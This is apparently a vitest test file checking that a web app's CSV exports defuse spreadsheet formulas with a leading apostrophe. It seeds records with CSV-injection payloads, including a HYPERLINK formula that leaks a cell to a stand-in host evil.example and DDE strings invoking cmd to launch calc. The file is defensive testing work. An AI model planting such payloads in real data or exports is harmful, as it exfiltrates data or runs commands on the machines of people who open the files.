import fs from "node:fs";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DATASET_NAMES } from "../../app/lib/api.server";
import { upsertAssessments } from "../../db/repositories/assessments";
import { upsertInstruments } from "../../db/repositories/instruments";
import { addUser, postLogin, signIn, startInProcess, visitorSession, type InProcessHarmonia, type Session } from "./harness";
import { routeUrl } from "./routes";

/**
 * CSV injection: text that came from a source or a person (titles, rationales, quotes, notes, even a typed
 * sign-in email that lands in the audit log) must not become a formula when an analyst opens the export
 * in a spreadsheet. A cell starting with = + - @ tab or CR is written with a leading apostrophe.
 */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  "+1+cmd|' /C calc'!A0",
  "-1+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

/** A cell a spreadsheet would evaluate. Plain negative numbers (numeric columns) are data, not formulas. */
const dangerous = (cell: string) => /^[=+@\t\r]/.test(cell) || (cell.startsWith("-") && !/^-\d+(\.\d+)?$/.test(cell));

function rows(csv: string): string[][] {
  return parse(csv, { relax_column_count: false, bom: true }) as string[][];
}

describe("CSV exports neutralise formulas", () => {
  let h: InProcessHarmonia;
  let admin: Session;
  let indicators: string[];
  let recommendationId: string;

  beforeAll(async () => {
    h = await startInProcess("pglite", { knowledgeBase: true });
    const db = h.services.database.db;
    indicators = (await db.selectFrom("indicator").select("id").orderBy("id").limit(PAYLOADS.length).execute()).map((i) => i.id);
    recommendationId = (await db.selectFrom("recommendation").select("id").orderBy("id").executeTakeFirstOrThrow()).id;
    await upsertInstruments(
      db,
      "legislation-gov-uk",
      PAYLOADS.map((payload, i) => ({
        type: "instrument" as const,
        externalId: `csv-injection-${i}`,
        jurisdictionCode: "GB",
        title: payload,
        kind: "bill" as const,
        stage: "introduced" as const,
        introducedOn: "2026-02-01",
        enactedOn: null,
        inForceOn: null,
        identifiers: { bill: payload },
        officialUrl: `https://www.legislation.gov.uk/csv-injection/${i}`,
        sourceUpdatedAt: null,
        summary: payload,
        topics: [{ topic: "ai-csam" as const, reason: payload }],
      })),
      null,
    );
    await upsertAssessments(
      db,
      "legislation-gov-uk",
      "ingested",
      PAYLOADS.map((payload, i) => ({
        type: "assessment" as const,
        jurisdictionCode: "GB",
        indicatorId: indicators[i]!,
        value: "partial" as const,
        rationale: payload,
        citations: [{ instrumentTitle: payload, provision: payload, url: `https://www.legislation.gov.uk/csv-injection/${i}`, quote: payload }],
        effectiveFrom: "2026-02-01", effectiveTo: null, effectiveBasis: "In force 2026-02-01 (test record).", verifiedOn: "2026-02-01",
        confidence: "low" as const,
      })),
      null,
    );
    await db
      .insertInto("follow_up_note")
      .values(PAYLOADS.map((payload) => ({ recommendation_id: recommendationId, jurisdiction_code: "GB", body: payload, link_url: null, noted_on: "2026-02-01", created_by: "csv-test@example.org" })))
      .execute();
    // A typed sign-in email is stored as the audit entry's actor.
    const visitor = await visitorSession(h.url);
    await postLogin(h.url, visitor, PAYLOADS[0]!, "whatever");
    admin = await signIn(h.url, (await addUser(h, "admin")).email);
  });

  afterAll(async () => {
    await h?.stop();
  });

  async function csv(url: string): Promise<string[][]> {
    const response = await fetch(`${h.url}${url}`, { headers: { cookie: admin.cookie } });
    expect(response.status, url).toBe(200);
    expect(response.headers.get("content-type"), url).toMatch(/^text\/csv/);
    return rows(await response.text());
  }

  it("/api/v1/assessments.csv: every payload in rationale, citation title, provision and quote starts with an apostrophe", async () => {
    const [header, ...data] = await csv("/api/v1/assessments.csv?jurisdiction=GB");
    const col = (name: string) => header!.indexOf(name);
    for (const [i, payload] of PAYLOADS.entries()) {
      const row = data.find((r) => r[col("indicator_id")] === indicators[i]);
      expect(row, indicators[i]).toBeDefined();
      for (const name of ["rationale", "instrument_title", "provision", "quote"]) {
        expect(row![col(name)], `${name} of ${indicators[i]}`).toBe(`'${payload}`);
      }
    }
    expect(data.flat().filter(dangerous)).toEqual([]);
  });

  it("/instruments.csv: every payload title (and summary, identifiers, topic reason) is neutralised", async () => {
    const [header, ...data] = await csv("/instruments.csv?jurisdiction=GB");
    const title = header!.indexOf("title");
    for (const payload of PAYLOADS) expect(data.map((r) => r[title])).toContain(`'${payload}`);
    expect(data.flat().filter(dangerous)).toEqual([]);
  });

  it("/admin/audit/export.csv: a formula typed as a sign-in email is neutralised in the actor column", async () => {
    const [header, ...data] = await csv("/admin/audit/export.csv?action=login.failure");
    const actor = header!.indexOf("actor");
    expect(data.map((r) => r[actor])).toContain(`'${PAYLOADS[0]!.toLowerCase()}`);
    expect(data.flat().filter(dangerous)).toEqual([]);
  });

  it("no CSV export of any page (found in app/routes) or API dataset has a cell a spreadsheet would evaluate", async () => {
    const files = fs.readdirSync(path.resolve("app/routes")).filter((f) => /\[\.\]csv\.tsx?$/.test(f));
    const urls = files.map((f) =>
      routeUrl(f.replace(/\.tsx?$/, ""), (name, previous) => (name === "code" ? "GB" : previous === "recommendations" ? recommendationId : previous === "indicators" ? indicators[0]! : "1")),
    );
    // Exports that need a choice to say what they show.
    const query: Record<string, string> = { "/compare.csv": "?j=GB&j=FR", "/compare/dual-criminality.csv": "?j=GB&j=FR" };
    const all = [...urls.map((u) => u + (query[u] ?? "")), ...DATASET_NAMES.map((d) => `/api/v1/${d}.csv`)];
    expect(all.length).toBeGreaterThan(15);
    const offending: string[] = [];
    for (const url of all) {
      for (const cell of (await csv(url)).flat()) if (dangerous(cell)) offending.push(`${url}: ${JSON.stringify(cell)}`);
    }
    expect(offending).toEqual([]);
  });
});
